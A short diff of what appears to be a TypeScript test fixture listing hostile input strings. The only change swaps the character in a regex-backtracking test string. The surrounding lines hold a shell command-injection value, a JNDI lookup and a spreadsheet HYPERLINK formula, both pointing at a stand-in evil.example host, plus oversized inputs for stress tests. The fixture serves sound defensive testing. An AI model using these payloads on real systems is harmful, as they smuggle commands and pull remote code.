@@ -63,7 +63,7 @@ export const HOSTILE_TEXTS: readonly (readonly [name: string, text: string])[] =
   ["a shell", "$(touch /tmp/x); `id`"],
   ["a lookup", "${jndi:ldap://evil.example/a}"],
   ["a formula", '=HYPERLINK("https://evil.example")'],
-  ["an evil pattern", `${"a".repeat(60)}!`],
+  ["an evil pattern", `${"z".repeat(60)}!`],
   ["an evil address", `${"a.".repeat(120)}@`],
   ["a deep array", `${"[".repeat(400)}${"]".repeat(400)}`],
   ["too long", "x".repeat(1_200)],
